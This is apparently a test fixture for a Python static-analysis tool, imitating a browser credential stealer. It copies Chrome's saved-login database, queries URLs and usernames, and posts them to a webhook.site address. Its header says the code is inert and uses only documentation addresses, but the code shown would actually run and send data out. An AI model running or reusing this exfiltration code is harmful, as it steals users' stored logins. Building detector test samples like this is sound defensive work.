# INERT test sample for pyward's static analysis: never run it. Modelled on browser password/cookie stealers.
# Documented: https://blog.cyble.com/ (2022 PyPI browser stealers); GuardDog exfiltrate-sensitive-data
# Every address is a documentation address (RFC 5737); nothing here is functional malware.
import os, shutil, sqlite3, requests
path = os.path.join(os.environ.get('LOCALAPPDATA', ''), 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')
shutil.copy(path, 'ld.db')
rows = sqlite3.connect('ld.db').execute('select origin_url, username_value from logins').fetchall()
requests.post('https://webhook.site/inert', json=rows)
